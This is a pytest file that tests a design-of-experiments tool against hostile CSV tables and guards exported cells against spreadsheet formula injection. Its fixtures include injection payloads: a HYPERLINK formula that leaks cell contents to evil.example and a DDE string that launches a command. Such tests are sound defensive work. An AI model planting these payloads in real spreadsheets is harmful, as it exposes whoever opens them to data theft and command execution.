"""Tables from strangers, and tables that doe writes for whoever opens them in a spreadsheet."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from doe.designs import DESIGNS
from doe.importing import write_rows
from doe.loading import guarded, read_results, unguarded
from doe.model import DoeError, Factor, Objective, Study
from tests.conftest import Said

TRAINER = str(Path(__file__).parent.parent / "plain_trainer.py")
BIG = "1" + "0" * 400
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"see")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|x",
    "-2+3",
    "@SUM(1+1)",
    "'=1+1",
    "''@x",
    "\uff1d1",
)
TABLES: dict[str, bytes] = {
    "a zero": b"a,y\nx\0,1\ny,2\n",
    "a zero in the heading": b"a\0,y\nx,1\n",
    "an open quote": b'a,y\n"x,1\ny,2\n',
    "too long a cell": b"a,y\n" + b"x" * 200_000 + b",1\ny,2\n",
    "UTF-16": "a,y\nx,1\n".encode("utf-16"),
    "an escape": b"a,y\nx\x1b[2J,1\ny,2\n",
    "letters backwards": "a,y\nx\u202e,1\ny,2\n".encode(),
    "nothing": b"",
    "nothing but lines": b"\n\n\n",
    "a huge response": f"a,y\nx,{BIG}\ny,1\n".encode(),
    "5,000 digits": f"run,a,y\n{'9' * 5000},x\n".encode(),
    "no text": bytes(range(256)) * 100,
    "uneven rows": b"a,y\nx\n",
    "two columns of a name": b"a,a,y\n1,2,3\n4,5,6\n",
}


@pytest.mark.parametrize("content", TABLES.values(), ids=TABLES)
def test_a_malicious_table_is_refused(content: bytes, tmp_path: Path) -> None:
    """As results, and as a design."""
    path = tmp_path / "table.csv"
    path.write_bytes(content)
    with pytest.raises(DoeError):
        read_results(path, Objective("y"), ["a"])
    study = Study("s", "table", (Factor("a", ("x", "y")),), Objective("y"), "t", layout={"file": str(path)})
    with pytest.raises(DoeError):
        list(DESIGNS["table"].runs(study))


def test_a_million_columns_are_refused_at_once(tmp_path: Path) -> None:
    """The time that it takes grows with their number, not with its square, which would be days."""
    path = tmp_path / "table.csv"
    path.write_text(",".join("c" for _ in range(1_000_000)) + "\n" + ",".join("1" * 1_000_000) + "\n")
    with pytest.raises(DoeError, match="two columns 'c'"):
        read_results(path, Objective("y"))
    study = Study("s", "table", (Factor("a", ("x", "y")),), Objective("y"), "t", layout={"file": str(path)})
    with pytest.raises(DoeError, match="no column for factor 'a'"):
        list(DESIGNS["table"].runs(study))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_as_a_text_and_read_as_it_was(text: str, tmp_path: Path) -> None:
    """A spreadsheet sees an apostrophe first; doe, the text itself, as a cell and as a heading."""
    path = tmp_path / "table.csv"
    write_rows([{"run": 1, text: text}, {"run": 2, text: "-1.5"}, {"run": 3, text: -2}], path)
    (_, head), (_, cell), *numbers = _rows(path)
    assert (head, cell) == (f"'{text}", f"'{text}")
    assert numbers == [["2", "-1.5"], ["3", "-2"]]
    assert unguarded(cell) == text


@pytest.mark.parametrize(
    "value", ["", "x", "-1", "+1e-3", "'", "'x", "-inf", "a=b", 1, -1, True, None, -0.5, "\t=1", "-"]
)
def test_what_is_guarded_comes_back(value: object) -> None:
    """Whatever it is; what is no formula stays as it is."""
    written = guarded(value)
    assert unguarded(written) == value if isinstance(written, str) else written is value


def test_every_table_that_a_study_writes_is_safe(doe: Said, workplace: Path) -> None:
    """design.csv, responses.csv, and the plan as a table, which runs again as the same design."""
    words = ["full_factorial", "--trainer", TRAINER, "--factor", "mark=" + "@x,=1+1|cmd,plain", "--factor", "b=1.5,2"]
    assert doe("plan", *words, "--to", "plan.csv")[0] == 0
    code, _, err = doe("run", *words, "--executor", "serial", "--tracking-uri", "none", "--yes")
    assert code == 0, err
    folder = workplace / "mlruns/studies/full_factorial-plain_trainer"
    for path in (workplace / "plan.csv", folder / "design.csv", folder / "responses.csv"):
        cells = [cell for row in _rows(path) for cell in row]
        assert {"'@x", "'=1+1|cmd", "plain"} <= set(cells), path
        assert not [cell for cell in cells if cell[:1] in set("=+@\t\r")]
    again = ["run", "full_factorial", "--design", "plan.csv", *words[1:], "--name", "again", "--executor", "serial"]
    assert doe(*again, "--tracking-uri", "none", "--yes")[0] == 0
    found = read_results(folder / "responses.csv", Objective("val_accuracy"), ["mark"])
    assert set(found.factors[0].levels) == {"@x", "=1+1|cmd", "plain"}


def _rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))
